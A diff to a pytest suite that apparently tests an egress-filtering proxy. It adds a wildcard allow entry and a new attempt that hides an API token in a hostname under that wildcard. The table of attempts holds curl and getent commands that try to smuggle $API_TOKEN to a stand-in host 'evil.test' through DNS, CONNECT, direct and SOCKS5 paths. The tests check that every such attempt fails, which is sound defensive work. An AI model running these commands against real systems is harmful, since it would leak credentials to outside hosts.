@@ -296,7 +296,8 @@ def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[_Box]:
     a, e = api.port, evil.port
     cfg.write_text(
         "[network]\n"
-        f'allow = ["api.test:{a}", "evil.test:{e}", "other.test:{a}", "api.test:{e}"]\n'
+        f'allow = ["api.test:{a}", "evil.test:{e}", "other.test:{a}", "api.test:{e}",'
+        f' "*.wild.test:{e}"]\n'
         f'upstream_ca = ["{ca.path}"]\n'
         "[network.resolve]\n"
         '"api.test" = "127.0.0.1"\n'
@@ -496,6 +497,7 @@ _ATTEMPTS: dict[str, str] = {
     "direct connection, no proxy": 'curl -sS -k --noproxy "*" https://127.0.0.1:{e}/direct?t=$API_TOKEN',
     "DNS lookup carrying the placeholder": "getent hosts $API_TOKEN.evil.test",
     "CONNECT naming the placeholder": 'curl -sS -k "https://$API_TOKEN.evil.test:{e}/n"',
+    "the placeholder in a name an allowed wildcard covers": 'curl -sS -k "https://$API_TOKEN.wild.test:{e}/w"',
     "SOCKS5 tunnel to the other host": 'curl -sS -k --socks5-hostname 127.0.0.1:3128 https://evil.test:{e}/socks -H "Authorization: Bearer $API_TOKEN"',
 }
 
@@ -579,6 +581,7 @@ def test_exfiltration_attempts_all_fail(box: _Box) -> None:
     assert any("may be sent only to api.test" in m for m in logs), logs
     assert any("does not name the tunnel's target" in m for m in logs), logs
     assert any("only HTTP CONNECT tunnels are accepted" in m for m in logs), logs
+    assert any("API_TOKEN is never sent in a host name" in m for m in logs), logs
     assert b"/socks" not in box.evil.received()
 
 
